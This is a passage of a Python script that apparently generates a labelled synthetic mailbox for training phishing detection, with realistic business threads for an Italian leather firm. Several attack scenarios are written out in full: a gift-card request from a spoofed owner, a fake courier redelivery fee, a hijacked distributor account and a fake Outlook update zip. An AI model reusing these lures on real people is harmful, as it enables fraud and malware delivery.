             ["LUC-BAN", "Bandouliere Lucca", 140, ""], ["VEL-POC", "Pochette Vela", 90, ""], ["PON-PC", "Porte-cartes Ponte", 300, ""]], "Inès Moreau", "2025-01-27T08:10:00Z", "SS25")
t22.add(ines, "Bonjour Giulia,\n\nje me permets de vous écrire pour la première fois : Nathalie m'a demandé de vous transmettre notre prévisionnel de "
        "commandes SS25 (fichier joint). Pourriez-vous nous indiquer les délais par modèle ?\n\nBien cordialement,", at(2025, 1, 27, 9, 22, PAR), GH,
        cc=[(nathalie.name, nathalie.email)], atts=[("Previsionnel_SS25_DRM.xlsx", prev, XLSX)],
        scen=("G13", "distributor's new purchasing assistant, introduced two weeks earlier, writes herself for the first time with an XLSX"))
t22.add(me, "Bonjour Inès, enchantée ! Je vous réponds avec les délais d'ici demain.", at(2025, 1, 27, 11, 3), to=[(ines.name, ines.email)], cc=[(nathalie.name, nathalie.email)])
t22.add(me, "Voici le fichier complété avec les délais.\n\nBien cordialement", at(2025, 1, 28, 15, 40), to=[(ines.name, ines.email)], cc=[(nathalie.name, nathalie.email)],
        quote=False, atts=[("Previsionnel_SS25_DRM_delais.xlsx", xlsx([["Reference", "Designation", "Quantite prev.", "Delai fournisseur"], ["SIE-CAB", "Cabas Siena", 180, "6 semaines"],
                                                                       ["LUC-BAN", "Bandouliere Lucca", 140, "7 semaines"], ["VEL-POC", "Pochette Vela", 90, "5 semaines"],
                                                                       ["PON-PC", "Porte-cartes Ponte", 300, "4 semaines"]], "Giulia Ferri", "2025-01-28T14:35:00Z", "SS25"), XLSX)])
t22.add(ines, "Merci beaucoup Giulia !", at(2025, 1, 28, 16, 2, PAR), cc=[(nathalie.name, nathalie.email)])
t22.add(me, "Bonjour Nathalie,\n\nles échantillons vous ont-ils plu ? Avez-vous besoin d'autres coloris pour les rendez-vous ?\n\nBien cordialement",
        at(2025, 2, 17, 9, 10), to=[(nathalie.name, nathalie.email)])
t22.add(nathalie, "Bonjour,\n\nje suis absente jusqu'au lundi 24 février inclus. Pour toute question urgente, merci de contacter Inès Moreau "
        "(ines.moreau@drm-lyon.example) ou, pour la logistique, Thomas Blanc (thomas.blanc@drm-lyon.example).\n\nHello,\n\nI am out of the office until "
        "Monday, February 24. For urgent matters please contact Inès Moreau or Thomas Blanc.\n\nNathalie Girard", at(2025, 2, 17, 9, 11, PAR), GH, sig=False,
        quote=False, subj="Réponse automatique : R: Échantillons collection SS25", detached=True,
        extra=[("Auto-Submitted", "auto-generated"), ("X-Auto-Response-Suppress", "All"), ("X-MS-Exchange-Generated-Message-Source", "Mailbox Rules Agent")],
        scen=("G8", "distributor buyer's Outlook out-of-office (French/English) in the thread"))
t22.add(nathalie, "Bonjour Giulia,\n\nde retour ! Les échantillons ont eu beaucoup de succès. Il nous faudrait une deuxième série en sauge et poudre pour nos "
        "commerciaux, à la même adresse.\n\nCordialement,", at(2025, 2, 25, 8, 58, PAR))
t22.add(me, "Avec plaisir, je vous les envoie dès que la nappa sauge arrive de la tannerie, vers le 10 mars.", at(2025, 2, 25, 10, 20))
t22.add(me, "Bonjour Nathalie,\n\nla deuxième série d'échantillons (sauge et poudre) est prête, départ demain matin à votre adresse de Villeurbanne. Je vous "
        "confirme le numéro de suivi.\n\nBien cordialement", at(2025, 3, 10, 17, 35))
t22.add(nathalie, "Bonjour Giulia,\n\npetit changement de dernière minute : pourriez-vous envoyer cette deuxième série d'échantillons directement à notre "
        "nouveau dépôt, où nos commerciaux les récupèrent :\n\nDRM - Dépôt Est\nZI des Chênes, 14 rue Ampère\n38070 Saint-Quentin-Fallavier\n"
        "À l'attention de M. Karim Haddad\n\nMerci également de remplir la fiche d'enlèvement du transporteur avant l'expédition, sinon le quai ne peut "
        f"pas réceptionner :\nhttps://drm-logistique-portail.example/fiche-enlevement?ref=SS25-{digits(4)}&f={alnum(12)}\n\nCordialement,",
        at(2025, 3, 11, 4, 12, PAR), HJ("account-takeover"), client="owa", lang="en",
        scen=("A4", "distributor's M365 account via OWA at 04:12 (en-US, English quote header in a French thread): samples to a new depot plus a "
                    "'fiche d'enlèvement' link on an unknown domain"))

# ---------------------------------------------------------------- T23 Les Malles de Léonie (Gmail): first order; G15 Android at night; G16 Drive photos
t23 = Thread("T22", leonie, "Demande d'informations - boutique à Lyon")
t23.add(leonie, "Bonjour,\n\nj'ai une petite boutique de malles et de maroquinerie à la Croix-Rousse, à Lyon, et j'ai découvert vos sacs chez Atelier "
        "Sévigné à Paris. Travaillez-vous avec des petites boutiques ? Quel est votre minimum de commande ?\n\nMerci d'avance,", at(2024, 10, 21, 14, 3, PAR),
        sig="\n\nLéonie Bastide\nLes Malles de Léonie\n12 montée de la Grande-Côte, 69001 Lyon")
t23.add(me, "Bonjour Léonie,\n\nmerci pour votre message ! Oui, nous travaillons avec des boutiques indépendantes : le minimum de commande est de 1.500 € HT, "
        "livraison offerte en France. Je vous envoie notre catalogue et la liste de prix.\n\nBien cordialement", at(2024, 10, 21, 16, 30),
        atts=[("Catalogue Arnolfi AW24.pdf", pdf(["Pelletteria Arnolfi - Collection automne-hiver 2024", "Siena - Lucca - Vela - Ponte"], producer="Adobe InDesign 19.5 (Macintosh)",
                                                when="20240805120000", zone="+02'00'"), "application/pdf")])
t23.add(leonie, "Merci beaucoup ! Je regarde tout ça ce week-end.", at(2024, 10, 22, 9, 12, PAR))
t23.add(leonie, "Bonsoir Giulia, désolée pour l'heure, je fais mes comptes 😅 Je pense partir sur 4 Siena noir, 4 Lucca taupe, 6 pochettes Vela et 10 "
        "porte-cartes. Ça fait environ 1.650 €, c'est bon pour vous ?", at(2024, 10, 27, 23, 47, PAR), GH, client="gmailand", sig=False,
        scen=("G15", "shop owner answers from Gmail for Android at 23:47, no signature, emoji"))
t23.add(me, "Bonjour Léonie,\n\nparfait ! Je vous prépare la facture pro forma. Pour une première commande nous demandons le paiement anticipé par virement.\n\n"
        "Bien cordialement", at(2024, 10, 28, 9, 15))
t23.add(leonie, "D'accord, pas de souci.", at(2024, 10, 28, 9, 40, PAR))
t23.add(me, "Voici la pro forma PF 44/24 avec nos coordonnées bancaires.", at(2024, 10, 29, 10, 2),
        atts=[("Proforma PF 44-24 Les Malles de Leonie.pdf", pdf(["Pelletteria Arnolfi S.r.l. - Facture pro forma PF 44/24", "Les Malles de Leonie - Lyon",
                                                                   "Total HT EUR 1.652,00", f"Virement anticipe: IBAN {IBAN_ARN} - Banca Toscana Credito"], when="20241029100000"), "application/pdf")])
t23.add(leonie, "Virement fait ce matin !", at(2024, 10, 30, 8, 55, PAR))
s23 = sped()
t23.add(me, f"Merci ! Colis parti aujourd'hui, suivi Veloce Express {s23}.", at(2024, 11, 5, 11, 20))
vx_notice(at(2024, 11, 5, 17, 45), s23, "Les Malles de Leonie, Lyon", "affidata")
vx_notice(at(2024, 11, 7, 12, 5), s23, "Les Malles de Leonie, Lyon", "consegnata")
t23.add(leonie, "Bonjour Giulia,\n\ntout est arrivé, c'est magnifique. J'ai mis quelques photos de la vitrine ici si vous voulez les utiliser pour vos "
        f"réseaux :\nhttps://drive.google.com/drive/folders/1{alnum(32)}?usp=sharing\n\nÀ bientôt pour la prochaine commande !", at(2024, 11, 8, 18, 22, PAR), GH,
        sig="\n\nLéonie Bastide\nLes Malles de Léonie\n12 montée de la Grande-Côte, 69001 Lyon",
        scen=("G16", "shop owner's first link in the thread: a Google Drive folder with photos of her window"))
t23.add(me, "Quelles belles photos, merci Léonie ! Nous les partagerons avec plaisir.", at(2024, 11, 9, 9, 30))
t23.add(leonie, "Bonjour Giulia,\n\nles Lucca taupe sont déjà parties ! Je pourrais en avoir 4 de plus avant Noël ?", at(2024, 12, 2, 10, 17, PAR),
        sig="\n\nLéonie Bastide\nLes Malles de Léonie\n12 montée de la Grande-Côte, 69001 Lyon")
t23.add(me, "Bien sûr, je vous les envoie jeudi avec la facture.", at(2024, 12, 2, 11, 5))
t23.add(leonie, "Super, merci !", at(2024, 12, 2, 11, 40, PAR), client="gmailand", sig=False)

# ================================================================ internal: T26 trade show (A14 gift cards), T27 forwarded request (G12), T28 supplier payments
t26 = Thread("T25", roberto, "Première Classe Parigi - organizzazione")
t26.add(roberto, "Giulia,\n\nper Première Classe di fine febbraio: stand confermato (padiglione 5, stand E12), ci andiamo io e te dal 26 al 28. Mi prepari "
        "l'elenco dei clienti francesi da invitare e un preventivo per l'hotel vicino alla Porte de Versailles?\n\nGrazie", at(2025, 1, 13, 8, 40))
t26.add(me, "Ciao Roberto,\n\nelenco in allegato: Atelier Sévigné, Maison Ardoise, DRM (Nathalie e la nuova assistente), Les Malles de Léonie e tre "
        "boutique nuove conosciute a settembre. Per l'hotel ho bloccato due camere al Novotel Paris Vaugirard, 189 € a notte, cancellazione gratuita fino al "
        "19/02.\n\nGiulia", at(2025, 1, 13, 11, 25),
        atts=[("Inviti Premiere Classe 2025.xlsx", xlsx([["Cliente", "Citta", "Contatto", "Invito"], ["Atelier Sevigne", "Paris", "Camille Roux", "si"],
                                                         ["Maison Ardoise", "Paris", "Julien Mercier", "si"], ["DRM", "Lyon", "Nathalie Girard / Ines Moreau", "si"],
                                                         ["Les Malles de Leonie", "Lyon", "Leonie Bastide", "si"]], "Giulia Ferri", "2025-01-13T10:10:00Z"), XLSX)])
t26.add(roberto, "Perfetto, prenota pure. Per i campionari li portiamo in macchina, parto io il 25 con il furgone.", at(2025, 1, 13, 12, 2))
t26.add(me, "Prenotato, conferme in allegato.", at(2025, 1, 14, 9, 0),
        atts=[("Conferma Novotel Vaugirard.pdf", pdf(["Novotel Paris Vaugirard - Confirmation", "2 chambres 25/02 - 28/02/2025"], producer="Accor", when="20250114085500"), "application/pdf")])
t26.add(roberto, "Giulia, puoi stampare anche 100 cataloghi SS25 per lo stand? La tipografia di Scandicci li fa in 5 giorni.", at(2025, 2, 5, 17, 48))
t26.add(me, "Già ordinati la settimana scorsa, arrivano il 18.", at(2025, 2, 5, 18, 2))
t26_last = t26.last
olrob = Pt("Roberto Arnolfi", "roberto.arnolfi.pa@outlook.com", "outlookcom", "outlookcom")
t26.add(olrob, "Giulia sei in ufficio? Mi serve una cosa veloce e riservata, sono in riunione e non posso telefonare. Per Parigi voglio fare un omaggio ai "
        "buyer che incontriamo: prendi 8 buoni regalo Amazon da 100 € l'uno, gratta i codici e mandameli in foto qui. Te li rimborsa Elena a fine mese. "
        "Non dirlo agli altri, è una sorpresa.\n\nInviato da iPhone", at(2025, 2, 20, 11, 52), HJ("display-name-spoof"), sig=False,
        opt={}, scen=("A14", "owner's display name at an outlook.com address in the trade-show thread: Amazon gift cards 'for the buyers', photos of the "
                            "codes, secrecy, quotes the real last message"))
t26.add(roberto, "Giulia, io parto domattina alle 6 col furgone. Ci vediamo allo stand mercoledì alle 8.", at(2025, 2, 24, 18, 10), quote_rec=t26_last)

t27 = Thread("T26", roberto, "I: Richiesta catalogo e listino - boutique Bruxelles")
t27.add(roberto, "Giulia, mi è arrivata questa richiesta sul sito. Puoi rispondere tu? Mi sembra interessante, hanno tre negozi.\n\nRoberto\n\n"
        "Da: Maroquinerie Sablon <contact@maroquinerie-sablon.example> \nInviato: lunedì 9 dicembre 2024 22:14\nA: info@pelletteria-arnolfi.example\n"
        "Oggetto: Richiesta catalogo e listino - boutique Bruxelles\n\nBonjour,\nnous avons trois boutiques à Bruxelles (Sablon, Louise, Flagey) et "
        "souhaiterions recevoir votre catalogue et vos conditions revendeurs. Vous trouverez en pièce jointe une présentation de nos boutiques.\n\n"
        "Cordialement,\nSophie Lambert\nMaroquinerie Sablon", at(2024, 12, 10, 8, 31), GH, sig=False,
        scen=("G12", "owner forwards ('I:') a customer's catalogue request with the customer's PDF; the original is not in the mailbox"),
        atts=[("Presentation Maroquinerie Sablon.pdf", pdf(["Maroquinerie Sablon - Bruxelles", "Sablon - Louise - Flagey", "Depuis 1987"], producer="Canva", when="20241201100000"), "application/pdf")])
t27.add(me, "Grazie Roberto, rispondo io oggi e la invito a Parigi.", at(2024, 12, 10, 9, 5))
t27.add(roberto, "Bene. Mettile il listino distributori, non quello boutique, se fanno volumi.", at(2024, 12, 10, 9, 20))
t27_fwd = t27.refs[0]

t28 = Thread("T27", elena, "Pagamenti fornitori fine mese")
t28.add(elena, "Ciao Giulia,\n\nti giro lo scadenziario fornitori di fine mese. Mi confermi che le RiBa di Valdarno e il bonifico a Gori (fattura 22) "
        "sono tutti ok da pagare?\n\nGrazie", at(2025, 2, 24, 9, 5),
        atts=[("Scadenziario fornitori 28-02-2025.xlsx", xlsx([["Fornitore", "Documento", "Scadenza", "Importo", "Modalita"], ["Conceria Valdarno", "Fatt. 142", "28/02/2025", 4738.8, "RiBa"],
                                                               ["Minuterie Gori", "Fatt. 22", "28/02/2025", 3120.0, "Bonifico (vecchio conto)"],
                                                               ["Fracassi Spedizioni", "Fatt. 2025/0121", "28/02/2025", 412.3, "Bonifico"]], "Elena Bruni", "2025-02-24T08:00:00Z"), XLSX)])
t28.add(me, "Ciao Elena,\n\ntutto ok. Per Valdarno paghiamo le RiBa normalmente: la mail dell'11 con il nuovo IBAN \"per la fusione\" era falsa, ho "
        "chiamato Marco e non ne sapeva niente, hanno già cambiato la password. Gori va pagato sul vecchio conto (il nuovo vale dal 1° marzo).\n\nGiulia",
        at(2025, 2, 24, 9, 40))
t28.add(elena, "Perfetto, grazie. Allora procedo.", at(2025, 2, 24, 9, 52))

# ================================================================ T29 Chianti Informatica (Thunderbird): new laptop; G30 remote assistance link; A16 account takeover
t29 = Thread("T28", andrea, "Nuovo portatile Giulia - migrazione posta")
t29.add(me, "Ciao Andrea,\n\nil portatile nuovo è arrivato. Quando puoi passare a configurarlo? Mi servirebbe soprattutto spostare la posta di Outlook "
        "(ho un archivio PST di qualche anno) e la firma.\n\nGrazie", at(2024, 11, 25, 10, 30))
t29.add(andrea, "Ciao Giulia,\n\nposso passare giovedì mattina alle 9. Nel frattempo non cancellare niente dal vecchio PC; l'archivio PST lo copio io sul "
        "NAS prima di spostarlo.", at(2024, 11, 25, 12, 4))
t29.add(me, "Perfetto, giovedì alle 9.", at(2024, 11, 25, 12, 20))
t29.add(andrea, "Fatto tutto: Outlook configurato in IMAP con Aruba, archivio collegato e firma copiata. Il vecchio PC lo lascio acceso fino a lunedì, "
        "se ti manca qualcosa dimmelo.", at(2024, 11, 28, 12, 48))
t29.add(me, "Ciao Andrea, Outlook mi chiede di nuovo la password ogni volta che lo apro. Puoi dare un'occhiata da remoto?", at(2024, 12, 3, 9, 12))
t29.add(andrea, "Ciao Giulia, sì: apri questo link e avvia il programmino che scarica, poi dimmi il codice che compare. È il nostro server di assistenza, "
        f"quello che usiamo sempre.\nhttps://assistenza.chiantinformatica.example/rustdesk/ChiantiAssist-{digits(4)}.exe", at(2024, 12, 3, 9, 20), GH,
        scen=("G30", "IT provider sends a remote-assistance download link on his own domain after Giulia asked for help"))
t29.add(me, "Il codice è 184 992 307.", at(2024, 12, 3, 9, 31))
t29.add(andrea, "Sistemato: era la password salvata nel vecchio profilo di Windows. Ora non dovrebbe più chiederla.", at(2024, 12, 3, 9, 58))
t29.add(me, "Perfetto, grazie mille!", at(2024, 12, 3, 10, 5))
t29.add(andrea, "Ciao Giulia,\n\nAruba ha comunicato che dal 31 maggio il vecchio metodo di accesso di Outlook non sarà più supportato e senza "
        "l'aggiornamento la posta smetterà di scaricarsi. Ho preparato il pacchetto già configurato per il tuo PC: scaricalo da qui e avvialo, ci mette un "
        "paio di minuti (se Windows chiede conferma clicca su \"Esegui comunque\"):\n\n"
        f"https://www.dropbox.com/scl/fi/{alnum(21).lower()}/Aggiornamento_Outlook_Aruba_2025.zip?rlkey={alnum(25).lower()}&dl=1\n\nSe hai problemi chiamami.",
        at(2025, 5, 14, 7, 31), HJ("account-takeover"), client="roundcube", opt={"ip": f"194.26.{R.randint(1, 250)}.{R.randint(2, 250)}", "rcver": "1.6.9"},
        scen=("A16", "IT provider's account via his Roundcube webmail from a foreign IP (normally Thunderbird from the office): 'Outlook/Aruba update' "
                     "zip on dropbox.com, 'Esegui comunque'"))

# ================================================================ T30 [Export Moda] mailing list: US tariffs question (G10, G11) + other list traffic
listpt = Pt("Export Moda", LIST, "bulk", "mailman")
tommaso = Pt("Tommaso Guidi", "t.guidi@calzaturificioguidi.example", "tb", "mailman")
francesca = Pt("Francesca Neri", "francesca@pelletterianeri.example", "ol", "mailman")
lorenzo = Pt("Lorenzo Bacci", "lorenzo.bacci@gmail.com", "gmail", "mailman")
segreteria = Pt("Segreteria Export CNA Toscana", "export@cna-toscana.example", "ol", "mailman")
list_post(segreteria, "ol", at(2024, 12, 16, 10, 2), "[Export Moda] Webinar 15 gennaio: EORI, origine e nuove regole doganali",
          "Buongiorno a tutti,\n\nmercoledì 15 gennaio alle 15:00 si terrà il webinar gratuito per gli associati \"EORI, origine della merce e nuove regole "
          "doganali 2025\", con la dott.ssa Marta Cini (spedizioniere doganale).\nIscrizioni: https://www.cna-toscana.example/eventi/webinar-dogane-2025\n\n"
          "Segreteria Export - CNA Toscana", host="mail.cna-toscana.example", ip="151.1.214.60")
lj_mid = list_post(lorenzo, "gmail", at(2025, 1, 20, 18, 40), "[Export Moda] Cercasi spedizioniere affidabile per il Giappone",
                   "Ciao a tutti,\n\nqualcuno ha esperienza con uno spedizioniere per piccole spedizioni aeree a Tokyo (campionari, 20-30 kg)? Quello che usavamo ha "
                   "chiuso la sede di Firenze.\n\nGrazie\nLorenzo Bacci - Bacci Cinture, Empoli", host="mail-ej1-f52.google.com", ip="209.85.218.52")
t30 = Thread("T29", listpt, "Dazi USA: esperienze con spedizioni già in viaggio?")
t30.add(me, "Buongiorno a tutti,\n\nabbiamo una spedizione aerea verso New York partita prima dell'entrata in vigore dei nuovi dazi e un'altra pronta a "
        "maggio. Qualcuno sa come viene trattata la merce già in viaggio e se per le rese FCA conviene concordare qualcosa con il cliente americano?\n\n"
        "Grazie in anticipo", at(2025, 4, 10, 9, 30), to=[("Export Moda", LIST)])
t30_q = t30.last; t30_mid = t30.refs[-1]
circ = pdf(["Nota informativa - Dazi aggiuntivi USA aprile 2025", "Merce in transito: regime transitorio", "Fonte: Agenzia delle dogane"], producer="Microsoft® Word 2019",
           when="20250409170000", zone="+02'00'")
list_post(tommaso, "tb", at(2025, 4, 10, 11, 48), "Re: [Export Moda] Dazi USA: esperienze con spedizioni già in viaggio?",
          "Buongiorno Giulia,\n\nper quanto ne so la merce imbarcata prima della data di entrata in vigore ed entrata negli USA entro fine maggio resta al "
          "dazio precedente: lo dice la nota della dogana, la trovi qui\nhttps://www.agenziadoganemonopoli.example/dazi-usa-2025/nota-informativa\n"
          "e te la allego. Con la resa FCA il dazio è comunque a carico del compratore; noi abbiamo mandato una lettera ai clienti per chiarirlo.\n\n"
          "Tommaso Guidi\nCalzaturificio Guidi - Fucecchio" + quote_of("tb", t30_q), refs=[t30_mid], label=GH,
          atts=[("Nota_dazi_USA_aprile_2025.pdf", circ, "application/pdf")], host="mail.calzaturificioguidi.example", ip="93.46.71.18",
          scen=("G10", "list member (never seen before) answers Giulia's list question with a link to the customs agency page and a PDF; list footer"))
list_post(francesca, "ol", at(2025, 4, 10, 15, 5), "Re: [Export Moda] Dazi USA: esperienze con spedizioni già in viaggio?",
          "Confermo quello che dice Tommaso. Noi in più abbiamo chiesto al broker americano del cliente una conferma scritta della classificazione, "
          "perché alcune borse in pelle rientrano in voci diverse a seconda della tracolla.\n\nFrancesca Neri\nPelletteria Neri - Pontedera"
          + quote_of("ol", t30_q), refs=[t30_mid], label=GH, rewrite=True, host="smtp.pelletterianeri.example", ip="93.57.22.140",
          scen=("G11", "list reply whose From is rewritten 'Francesca Neri via Export Moda' (sender domain p=reject), Reply-To the member, list footer"))
list_post(lorenzo, "gmail", at(2025, 4, 11, 8, 20), "Re: [Export Moda] Dazi USA: esperienze con spedizioni già in viaggio?",
          "Noi abbiamo fatto lo stesso, lettera ai clienti e conferma del broker. Grazie a tutti per le info.\n\nLorenzo" + quote_of("gmail", t30_q),
          refs=[t30_mid], label=G, host="mail-ej1-f52.google.com", ip="209.85.218.52",
          scen=("P-T29-1", "plain list reply from a member to Giulia's question in T29"))
t30.add(me, "Grazie mille Tommaso e Francesca, molto utile. Scriviamo anche noi al cliente.", at(2025, 4, 11, 9, 2), to=[("Export Moda", LIST)],
        quote_rec=t30_q)
list_post(segreteria, "ol", at(2025, 5, 12, 9, 30), "[Export Moda] Missione imprenditoriale Tokyo - ottobre 2025",
          "Buongiorno,\n\nsono aperte le adesioni alla missione imprenditoriale a Tokyo (13-17 ottobre 2025) per le imprese della moda e della pelletteria. "
          "Scadenza adesioni: 30 giugno.\nProgramma: https://www.cna-toscana.example/eventi/missione-tokyo-2025\n\nSegreteria Export - CNA Toscana",
          host="mail.cna-toscana.example", ip="151.1.214.60")

# ================================================================ A10 fake thread: courier 'giacenza' with a redelivery-fee link
gk = Pt("Veloce Express - Assistenza Clienti", "assistenza@servizio-riconsegne.example", "phpmail", "fake-giacenza")
emit(gk, "phpmail", at(2024, 11, 26, 8, 14), [(me.name, me.email)], None, "R: Spedizione 0841 6653 2201 in giacenza - Pelletteria Arnolfi",
     [f"<{R.choice(('00', '01'))}{hx(2)}01db{hx(4)}${hx(8)}${hx(8)}$@{OWN}>"],
     "Gentile Cliente,\n\nin riferimento alla Sua richiesta, la spedizione n. 0841 6653 2201 risulta in giacenza presso la filiale di Firenze Ovest per "
     "indirizzo incompleto (manca il numero civico).\nPer riprogrammare la consegna è necessario confermare l'indirizzo e pagare il contributo di "
     "riconsegna di € 1,99 entro 48 ore, altrimenti il pacco verrà restituito al mittente:\n\n"
     f"https://velocexpress-riconsegna.example/it/giacenza?sp=084166532201&t={alnum(20)}\n\nCordiali saluti\nVeloce Express - Servizio Clienti\n\n"
     "-----Messaggio originale-----\nDa: Giulia Ferri <giulia.ferri@pelletteria-arnolfi.example>\nInviato: lunedì 25 novembre 2024 16:02\n"
     "A: assistenza@velocexpress.example\nOggetto: Spedizione 0841 6653 2201 in giacenza - Pelletteria Arnolfi\n\n"
     "Buongiorno, aspettiamo questo pacco da tre giorni, potete verificare dove si trova?\nGrazie\nGiulia Ferri",
     no_html=False, html=html_mail("Veloce Express - Spedizione in giacenza", ["Gentile Cliente,", "la spedizione n. 0841 6653 2201 risulta in giacenza per indirizzo incompleto.",
                                                                                "Paga il contributo di riconsegna di € 1,99 entro 48 ore."],
                                    ("Riprogramma la consegna", f"https://velocexpress-riconsegna.example/it/giacenza?sp=084166532201&t={alnum(20)}"), "Veloce Express S.p.A.", "#c8102e"),
     label=HJ("fake-thread"), opt={"php": "/var/www/html/mailer/send.php for 45.153.160.2", "user": "www-data"},
     scen=("A10", "stranger 'R: Spedizione ... in giacenza' with a fabricated quote of Giulia (References not in the mailbox): redelivery-fee link "
                  "on a courier-like domain"))

# ================================================================ background: bank, courier, newsletters, Aruba, DocuSign, PEC, SDI
for (y, mo) in [(2024, 9), (2024, 10), (2024, 11), (2024, 12), (2025, 1), (2025, 2), (2025, 3), (2025, 4), (2025, 5), (2025, 6)]:
    if (y, mo) != (2025, 6):
        btc_notice(at(y, mo, 5 + R.randint(0, 2), 7, R.randint(0, 50)), "Esito presentazione distinta RiBa attive",
                   [f"la distinta RiBa n. {R.randint(100, 999)} presentata il {R.randint(1, 4):02d}/{mo:02d}/{y} è stata lavorata.",
                    f"Effetti accettati: {R.randint(3, 9)} - importo totale € {R.randint(4000, 19000)},{R.randint(10, 99)}."])
    last = (datetime.date(y + (mo == 12), mo % 12 + 1, 1) - datetime.timedelta(days=1)).day
    if (y, mo) != (2025, 6) or True:
        btc_notice(at(y, mo, min(last, 28) if mo == 2 else last - R.randint(0, 1), 18, R.randint(0, 50)), "Addebito effetti passivi",
                   [f"è stato addebitato sul conto n. ...7190 l'importo di € {R.randint(2500, 16000)},{R.randint(10, 99)} per il pagamento di effetti RiBa passivi in scadenza."])
    if mo in (10, 1, 4):
        btc_notice(at(y, mo, 8, 6, 30), "Nuovo documento disponibile: estratto conto trimestrale", ["è disponibile in Inbank Impresa l'estratto conto del trimestre appena concluso."])
for (t, who, amt) in [(at(2024, 11, 15, 11, 10), "ATELIER SEVIGNE", "3.920,00 EUR"), (at(2024, 11, 20, 14, 30), "DISTRIBUTION RHONE MAROQUINERIE", "18.600,00 EUR"),
                      (at(2024, 10, 30, 13, 5), "LES MALLES DE LEONIE", "1.652,00 EUR"), (at(2024, 12, 6, 16, 40), "HUDSON AND PIKE LEATHER GOODS INC", "61.480,00 USD"),
                      (at(2025, 4, 2, 10, 15), "HUDSON AND PIKE LEATHER GOODS INC", "68.940,00 USD"), (at(2025, 4, 4, 9, 50), "MAISON ARDOISE", "2.964,00 EUR")]:
    btc_notice(t, "Bonifico in entrata", [f"è stato accreditato sul conto n. ...7190 un bonifico di {amt} ordinato da {who}."])
scap_topics = [(2024, 9, "Première Classe - les inscriptions visiteurs sont ouvertes"), (2024, 10, "Tendances maroquinerie printemps-été 2025"),
               (2024, 11, "Votre badge exposant : mode d'emploi"), (2024, 12, "Plan du salon et programme des conférences"), (2025, 1, "J-45 : préparez votre stand"),
               (2025, 2, "Derniers jours pour commander votre mobilier de stand"), (2025, 3, "Merci pour votre participation - chiffres clés"),
               (2025, 4, "Enquête de satisfaction exposants"), (2025, 5, "Édition de septembre : réservez votre emplacement"), (2025, 6, "Newsletter de juin")]
for y, mo, subj in scap_topics:
    t = at(y, mo, R.randint(8, 20), 10, R.randint(0, 59), PAR)
    unsub = f"https://scaparis.us21.list-manage.example/unsubscribe?u={hx(25)}&id={hx(10)}&e={hx(10)}"
    bulk(scap, t, subj, f"{subj}\n\nBonjour,\n\nretrouvez toutes les informations sur notre site : https://www.scaparis.example/\n\nSe désabonner : {unsub}\n\n"
         "Salon Cuir & Accessoires Paris - Porte de Versailles",
         html_mail(subj, ["Bonjour,", "retrouvez toutes les informations sur notre site."], ("Lire la suite", f"https://scaparis.us21.list-manage.example/track/click?u={hx(25)}&id={hx(10)}"),
                   f'<a href="{unsub}">Se désabonner</a> - Salon Cuir &amp; Accessoires Paris', "#111111"),
         extra=[("List-Unsubscribe", f"<{unsub}>, <mailto:unsubscribe-{hx(12)}@mcsv.example>"), ("List-Unsubscribe-Post", "List-Unsubscribe=One-Click"),
                ("X-Mailer", "Mailchimp Mailer - **CID" + hx(20) + "**"), ("List-Id", "Salon Cuir & Accessoires Paris <" + hx(20) + ".mcsv.example>"),
                ("Precedence", "bulk"), ("Feedback-ID", f"{R.randint(10, 99)}:{R.randint(10, 99)}:us21:mc")],
         mid=f"<{hx(20)}@mcsv.example>")
for y, mo, d, subj in [(2024, 9, 26, "Export Toscana Informa - settembre 2024"), (2024, 10, 24, "Export Toscana Informa - ottobre 2024"),
                       (2024, 11, 28, "Bando voucher fiere internazionali 2025"), (2025, 1, 23, "Export Toscana Informa - gennaio 2025"),
                       (2025, 2, 27, "Dazi USA: incontro informativo per le imprese"), (2025, 3, 27, "Export Toscana Informa - marzo 2025"),
                       (2025, 4, 24, "Export Toscana Informa - aprile 2025"), (2025, 5, 29, "Export Toscana Informa - maggio 2025")]:
    t = at(y, mo, d, 12, R.randint(0, 59))
    bulk(cciaa, t, subj, f"{subj}\n\nLe notizie del mese per le imprese che esportano: https://www.fi.camcom.example/export/newsletter\n\n"
         "Per non ricevere più la newsletter: https://www.fi.camcom.example/newsletter/cancellazione\n\nCamera di Commercio di Firenze",
         html_mail(subj, ["Le notizie del mese per le imprese che esportano."], ("Leggi la newsletter", "https://www.fi.camcom.example/export/newsletter"),
                   '<a href="https://www.fi.camcom.example/newsletter/cancellazione">Cancellati</a> - Camera di Commercio di Firenze', "#004b87"),
         extra=[("List-Unsubscribe", "<https://www.fi.camcom.example/newsletter/cancellazione>"), ("Precedence", "bulk")])
for t, subj, line in [(at(2024, 10, 14, 9, 0), "Fattura Aruba n. 24-A-0871163 disponibile", "la fattura relativa ai servizi Hosting e PEC è disponibile nell'Area Clienti."),
                      (at(2025, 3, 10, 9, 0), "I tuoi servizi sono in scadenza: rinnovo automatico il 14/04/2025",
                       "i servizi Hosting Linux Easy e PEC Pro del dominio pelletteria-arnolfi.example verranno rinnovati automaticamente il 14/04/2025."),
                      (at(2025, 4, 14, 9, 30), "Fattura Aruba n. 25-A-0422097 disponibile", "la fattura relativa al rinnovo dei servizi è disponibile nell'Area Clienti.")]:
    bulk(aruba, t, subj, f"Gentile Cliente,\n\n{line}\n\nArea Clienti: https://admin.aruba.example/\n\nAruba S.p.A. - Servizio Clienti",
         html_mail(subj, ["Gentile Cliente,", line], ("Vai all'Area Clienti", "https://admin.aruba.example/"), "Aruba S.p.A. - Servizio Clienti", "#e35205"),
         extra=[("X-Aruba-Notify", "1")])
bulk(dsign, at(2025, 1, 29, 9, 40, NYC), "Completed: Hudson & Pike Vendor Agreement 2025 - Pelletteria Arnolfi",
     "All parties have completed Hudson & Pike Vendor Agreement 2025 - Pelletteria Arnolfi.\n\nVIEW COMPLETED DOCUMENT: https://na4.docusign.net/Member/EmailStart.aspx?m="
     + ruuid() + "\n\nDo Not Share This Email",
     html_mail("All parties have completed the envelope.", ["Hudson & Pike Vendor Agreement 2025 - Pelletteria Arnolfi"], ("VIEW COMPLETED DOCUMENT",
               "https://na4.docusign.net/Member/EmailStart.aspx?m=" + ruuid()), "Do Not Share This Email", "#1e4ca1"),
     extra=[("X-DocuSign-Envelope-Id", ruuid())])
pec_in(at(2025, 3, 3, 12, 10), "studiorinaldi@legalmail.example", "legalmail.example", "Certificazioni Uniche 2025 - dipendenti Pelletteria Arnolfi",
       "Spett.le Pelletteria Arnolfi S.r.l.,\n\nsi trasmettono in allegato le Certificazioni Uniche 2025 dei dipendenti, già inviate all'Agenzia delle Entrate.\n\n"
